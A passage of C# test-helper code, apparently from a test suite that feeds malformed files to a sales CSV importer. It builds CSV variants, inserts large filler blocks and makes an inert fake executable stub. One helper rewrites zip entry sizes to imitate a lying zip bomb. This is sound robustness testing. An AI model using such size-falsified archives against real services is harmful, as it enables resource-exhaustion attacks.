    /// <summary>"1.234,56": dots group thousands, a comma marks the decimals (German, Dutch, Danish exports).</summary>
    private static string DecimalComma(double amount) =>
        amount.ToString("#,##0.00", Invariant).Replace(',', '_').Replace('.', ',').Replace('_', '.');

    private static string Csv(
        IEnumerable<Sale> sales,
        string header = Header,
        char delimiter = ',',
        Func<DateOnly, int, string>? date = null,
        Func<double, string>? amount = null,
        Func<int, string>? extra = null,
        Func<Sale, int, string, string>? row = null,
        string newline = "\n")
    {
        var text = new StringBuilder(header).Append('\n');
        var i = 0;
        foreach (var sale in sales)
        {
            var line = string.Join(delimiter,
                Quote(sale.Customer, delimiter),
                Quote(date?.Invoke(sale.Date, i) ?? sale.Date.ToString("yyyy-MM-dd", Invariant), delimiter),
                Quote(amount?.Invoke(sale.Amount) ?? sale.Amount.ToString("0.00", Invariant), delimiter)) + extra?.Invoke(i);
            text.Append(row?.Invoke(sale, i, line) ?? line).Append('\n');
            i++;
        }

        return newline == "\n" ? text.ToString() : text.Replace("\n", newline).ToString();
    }

    private static string Quote(string field, char delimiter) =>
        field.Contains(delimiter, StringComparison.Ordinal) || field.Contains('"', StringComparison.Ordinal) || field.StartsWith(' ')
            ? field.StartsWith('"') && field.EndsWith('"') ? field : "\"" + field.Replace("\"", "\"\"", StringComparison.Ordinal) + "\""
            : field;

    /// <summary>The header and the first rows before the filler, the other rows after it.</summary>
    private static IEnumerable<ReadOnlyMemory<byte>> Split(List<Sale> sales, byte[] filler, long times, int? before = null)
    {
        var cut = before ?? sales.Count / 2;
        yield return Encoding.UTF8.GetBytes(Csv(sales.Take(cut)));
        foreach (var chunk in ChunkStream.Repeat(filler, times))
        {
            yield return chunk;
        }

        var rest = Csv(sales.Skip(cut));
        yield return Encoding.UTF8.GetBytes(rest[(rest.IndexOf('\n', StringComparison.Ordinal) + 1)..]);
    }

    /// <summary>Rewrites the uncompressed size of one entry in its local header and in the central directory, as a zip bomb that lies does.</summary>
    private static byte[] ClaimSize(byte[] zip, string entry, uint size)
    {
        var name = Encoding.UTF8.GetBytes(entry);
        for (var i = 0; i + 46 < zip.Length; i++)
        {
            if (zip[i] == 'P' && zip[i + 1] == 'K' && zip[i + 2] == 3 && zip[i + 3] == 4 && i + 30 + name.Length <= zip.Length && zip.AsSpan(i + 30, name.Length).SequenceEqual(name))
            {
                BitConverter.TryWriteBytes(zip.AsSpan(i + 22, 4), size);
            }
            else if (zip[i] == 'P' && zip[i + 1] == 'K' && zip[i + 2] == 1 && zip[i + 3] == 2 && i + 46 + name.Length <= zip.Length && zip.AsSpan(i + 46, name.Length).SequenceEqual(name))
            {
                BitConverter.TryWriteBytes(zip.AsSpan(i + 24, 4), size);
            }
        }

        return zip;
    }

    private static byte[] Program()
    {
        var bytes = Random(75, 4_096, []);
        "MZ"u8.CopyTo(bytes);
        BitConverter.TryWriteBytes(bytes.AsSpan(0x3C, 4), 0x80);
        "PE\0\0"u8.CopyTo(bytes.AsSpan(0x80));
        return bytes;
    }

    private static byte[] Random(int seed, int length, byte[] head)
    {
        var bytes = new byte[length];
        new Random(seed).NextBytes(bytes);
        head.CopyTo(bytes, 0);
        return bytes;
    }

    private static IReadOnlyDictionary<string, long> Rules(params (string Rule, long Rows)[] rules) => rules.ToDictionary(r => r.Rule, r => r.Rows);

    private static BadInputFile Succeeds(string name, string what, Func<ChunkStream> open, List<Sale> sales) =>
        new(name, what, open, new SucceedsWith(sales, Rules()));

    private static Func<ChunkStream> Text(string text) => Encode(text, new UTF8Encoding(false));

    private static Func<ChunkStream> Encode(string text, Encoding encoding) => () => new ChunkStream([(byte[])[.. encoding.GetPreamble(), .. encoding.GetBytes(text)]]);

    private static Func<ChunkStream> Bytes(Func<byte[]> make) => () => new ChunkStream([make()]);

    private static Func<ChunkStream> Generated(Func<IEnumerable<ReadOnlyMemory<byte>>> chunks) => () => new ChunkStream(chunks());
}
